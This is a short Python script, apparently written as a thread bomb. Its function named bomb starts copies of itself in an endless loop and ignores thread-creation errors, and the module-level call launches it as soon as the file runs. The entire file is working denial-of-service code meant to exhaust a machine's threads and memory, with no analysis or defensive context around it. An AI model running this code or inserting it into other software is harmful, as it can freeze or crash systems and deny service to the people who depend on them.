"""As many threads as there can be, each making more."""

import threading


def bomb():
    while True:
        try:
            threading.Thread(target=bomb).start()
        except RuntimeError:
            pass


bomb()
